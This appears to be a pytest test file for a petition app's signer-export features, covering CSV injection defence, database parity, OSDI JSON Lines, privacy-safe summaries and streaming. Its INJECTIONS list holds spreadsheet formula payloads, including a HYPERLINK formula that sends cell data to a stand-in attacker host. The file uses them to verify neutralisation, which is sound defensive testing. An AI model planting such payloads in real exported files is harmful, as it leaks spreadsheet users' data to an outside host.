"""Exports: CSV injection, row-for-row equality with the database, OSDI JSON Lines,
the delivery summary without personal data, presets, and streaming."""

from __future__ import annotations

import csv
import io
import json

from sqlalchemy import select

from campaign.extensions import db
from campaign.models import AuditEvent, Signature, SignatureStatus
from campaign.services.exports import (
    csv_stream,
    export,
    export_presets,
    export_signers,
    export_summary,
)
from campaign.services.sealing import crypto
from campaign.services.signer_data.signers import SignerFilter
from tests.admin.helpers import campaign_content, campaign_row, make_signature

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "@SUM(A1:A9)",
    "-2",
    "\tTab",
    "\rCarriage",
]


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.removeprefix(csv_stream.BOM))))


def full_csv(**kwargs) -> str:
    return "".join(export_signers.export_csv(campaign_row().id, "full", SignerFilter(), **kwargs))


def test_neutralize_prefixes_every_dangerous_start():
    for value in INJECTIONS:
        assert csv_stream.neutralize(value) == "'" + value
    assert csv_stream.neutralize("Maryam") == "Maryam"
    assert csv_stream.neutralize("a=b") == "a=b"
    assert csv_stream.neutralize(None) == ""


def test_csv_injection_in_names_and_comments_is_neutralized(app):
    for n, payload in enumerate(INJECTIONS):
        make_signature(
            "Placeholder Name", f"inj{n}@example.org", raw_name=payload, raw_comment=payload
        )
    text = full_csv()
    rows = read_csv(text)
    assert len(rows) == len(INJECTIONS)
    for row in rows:
        for column in ("name", "comment"):
            cell = row[column]
            assert cell.startswith("'"), (column, cell)
            assert cell[1:] in INJECTIONS
    # no line of the raw file has a cell that starts with a formula character
    for line in csv.reader(io.StringIO(text)):
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_matches_the_database_row_for_row(app):
    make_signature(
        "Maryam Ahmadi", "maryam@example.org", "DE", comment="For my uncle", source="twitter"
    )
    make_signature("Reza Karimi", "reza@example.net", "FR", contact=False)
    make_signature("Sara Tehrani", "sara@example.org", "SE", status=SignatureStatus.PENDING)
    make_signature("Nima Rahimi", "nima@example.org", "IR", language="fa")
    rows = read_csv(full_csv())
    db_rows = db.session.scalars(
        select(Signature).where(Signature.campaign_id == campaign_row().id).order_by(Signature.id)
    ).all()
    assert len(rows) == len(db_rows) == 4
    for row, signature in zip(rows, db_rows, strict=True):
        assert int(row["id"]) == signature.id
        assert row["name"] == crypto.signer_value(signature, "name_enc")
        assert row["email"] == crypto.signer_value(signature, "email_enc")
        assert row["comment"] == (crypto.signer_value(signature, "comment_enc") or "")
        assert row["country"] == signature.country
        assert row["language"] == signature.language
        assert row["status"] == signature.status
        assert row["contact_consent"] == ("yes" if signature.contact_consent else "no")
        assert row["source"] == (signature.source or "")
        assert row["created_at"].startswith(signature.created_at.strftime("%Y-%m-%dT%H:%M:%S"))


def test_presets_select_the_right_signers(app):
    make_signature("Maryam Ahmadi", "maryam@example.org", "DE")  # confirmed, consents
    make_signature("Reza Karimi", "reza@example.net", "FR", contact=False)
    make_signature("Sara Tehrani", "sara@example.org", "SE", status=SignatureStatus.PENDING)
    make_signature("Nima Rahimi", "nima@example.org", "IR", status=SignatureStatus.INVALIDATED)
    unnamed = make_signature("Leila Unnamed", "leila@example.org", "FR", contact=False)
    for signature in db.session.scalars(select(Signature)):
        signature.delivery_consent = signature is not unnamed  # named in the delivery
    db.session.commit()
    campaign_id = campaign_row().id

    def rows(preset: str) -> list[dict]:
        return read_csv("".join(export_signers.export_csv(campaign_id, preset, SignerFilter())))

    mailing = rows("mailing")
    assert [r["email"] for r in mailing] == ["maryam@example.org"]
    delivery = rows("delivery")
    assert [r["name"] for r in delivery] == ["Maryam Ahmadi", "Reza Karimi"]
    # No email in a delivery list; the organizer copy's column, as the app seals to the
    # organizers' key (issue 23: opened offline by `flask export open`).
    assert set(delivery[0]) == {"name", "country", "action_date", "sealed"}
    assert len(rows("full")) == 5
    # the table's filters narrow any preset
    only_fr = export_signers.export_csv(campaign_id, "delivery", SignerFilter(country="FR"))
    assert [r["name"] for r in read_csv("".join(only_fr))] == ["Reza Karimi"]
    assert export_presets.count_rows(campaign_id, "delivery", SignerFilter(country="FR")) == 1


def test_excel_option_adds_a_bom_and_utf8_survives(app):
    make_signature("مریم احمدی", "maryam@example.org", "IR", language="fa")
    text = full_csv(excel=True)
    assert text.startswith(csv_stream.BOM)
    assert read_csv(text)[0]["name"] == "مریم احمدی"
    assert not full_csv().startswith(csv_stream.BOM)


def test_jsonl_is_in_the_osdi_shape(app):
    make_signature(
        "Maryam Ahmadi Tehrani", "maryam@example.org", "DE", comment="Justice", source="newsletter"
    )
    make_signature("Cher", "cher@example.org", "FR", contact=False).delivery_consent = True
    db.session.commit()
    lines = "".join(
        export_signers.export_jsonl(campaign_row().id, "full", SignerFilter())
    ).splitlines()
    first, second = (json.loads(line) for line in lines)
    assert first["given_name"] == "Maryam Ahmadi" and first["family_name"] == "Tehrani"
    assert first["email_addresses"] == [
        {"address": "maryam@example.org", "primary": True, "status": "subscribed"}
    ]
    assert first["postal_addresses"] == [{"country": "DE"}]
    assert first["action_date"].endswith("Z")
    assert first["comments"] == "Justice"
    assert first["referrer_data"] == {"source": "newsletter"}
    assert first["origin_system"] == export_signers.ORIGIN_SYSTEM
    assert second["name"] == "Cher" and second["email_addresses"][0]["status"] == "unsubscribed"
    delivery = json.loads(
        "".join(
            export_signers.export_jsonl(campaign_row().id, "delivery", SignerFilter())
        ).splitlines()[0]
    )
    assert "email_addresses" not in delivery and "comments" not in delivery


def test_summary_has_counts_and_no_personal_data(app):
    make_signature("Maryam Ahmadi", "maryam@example.org", "DE")
    make_signature("Reza Karimi", "reza@example.net", "DE")
    make_signature("Sara Tehrani", "sara@example.org", "FR")
    make_signature("Pending Person", "p@example.org", "FR", status=SignatureStatus.PENDING)
    data = export_summary.summary(campaign_content(), campaign_row())
    assert data["total_signatures"] == 3
    assert data["by_country"] == [{"country": "DE", "count": 2}, {"country": "FR", "count": 1}]
    assert data["petition_text"]
    text = json.dumps(data) + "".join(export_summary.export_summary_csv(data))
    for secret in ("Maryam", "Reza", "Sara", "example.org", "example.net"):
        assert secret not in text


def test_build_records_the_export_in_the_audit_log(app):
    make_signature()
    job = export.build(
        campaign_content(),
        campaign_row(),
        preset="mailing",
        fmt="csv",
        filters=SignerFilter(country="DE"),
        via="cli",
    )
    event = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).one()
    details = json.loads(event.details)
    assert details == {
        "preset": "mailing",
        "format": "csv",
        "excel": False,
        "rows": 1,
        "filters": {"country": "DE"},
        "via": "cli",
    }
    assert job.rows == 1 and len(read_csv("".join(job.chunks))) == 1


def test_export_streams_in_constant_memory(app, monkeypatch):
    """Many rows go through the stream without being held: peak memory stays flat."""
    import tracemalloc

    from sqlalchemy import insert

    campaign_id = campaign_row().id
    name, email = crypto.encrypt("Bulk Signer"), crypto.encrypt("bulk@example.org")

    def add(n: int, start: int) -> None:
        db.session.execute(
            insert(Signature),
            [
                {
                    "campaign_id": campaign_id,
                    "status": "confirmed",
                    "dedup_key": f"k{start + i}",
                    "email_enc": email,
                    "name_enc": name,
                    "country": "DE",
                    "language": "en",
                    "referral_code": f"r{start + i}",
                    "contact_consent": True,
                }
                for i in range(n)
            ],
        )
        db.session.commit()

    def peak_for_export() -> int:
        db.session.expunge_all()
        tracemalloc.start()
        total = 0
        for chunk in export_signers.export_csv(campaign_id, "full", SignerFilter()):
            total += len(chunk)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return peak

    monkeypatch.setattr(export_signers, "BATCH", 100)  # the same code path, in smaller batches
    add(300, 0)
    small = peak_for_export()
    add(1200, 300)
    large = peak_for_export()
    # five times the rows: memory must not grow with them (allow some noise)
    assert large < small * 2, (small, large)


def test_parallel_export_equals_the_serial_one_cell_for_cell(app, monkeypatch, tmp_path):
    """`flask export` of a large campaign runs across processes: the file must be the
    same bytes as one process writes, hostile cells neutralized, rows in id order."""
    from sqlalchemy import insert

    from campaign.services.exports import export_parallel

    campaign_id = campaign_row().id
    rows = []
    for n in range(1200):
        key = f"{n:032x}"
        name = INJECTIONS[n % len(INJECTIONS)] if n % 7 == 0 else f"Signer {n}"
        rows.append(
            {
                "campaign_id": campaign_id,
                "status": "confirmed",
                "dedup_key": f"p{n}",
                "row_key": key,
                "name_enc": crypto.seal_signer(name, "name_enc", key),
                "email_enc": crypto.seal_signer(f"s{n}@example.org", "email_enc", key),
                "comment_enc": crypto.seal_signer(
                    "=1+1" if n % 5 == 0 else None, "comment_enc", key
                ),
                "country": "DE",
                "language": "en",
                "referral_code": f"p{n}",
                "source": "-minus" if n % 11 == 0 else None,
            }
        )
    db.session.execute(insert(Signature), rows)
    db.session.commit()
    serial = full_csv()
    monkeypatch.setattr(export_parallel, "MIN_IDS", 1)
    monkeypatch.setattr(export_parallel, "RANGE_IDS", 100)  # 12 ranges over 2 processes
    out = tmp_path / "full.csv"
    result = app.test_cli_runner().invoke(
        args=[
            "export",
            "--campaign",
            campaign_content().slug,
            "--preset",
            "full",
            "--processes",
            "2",
            "--output",
            str(out),
        ]
    )
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as written:
        assert written.read() == serial
    parsed = read_csv(serial)
    assert [int(r["id"]) for r in parsed] == sorted(int(r["id"]) for r in parsed)
    assert len(parsed) == 1200
    for row in parsed:
        for cell in row.values():
            assert not cell.startswith(csv_stream.DANGEROUS_PREFIXES), row
    assert "'=HYPERLINK" in serial and "'=1+1" in serial and "'-minus" in serial
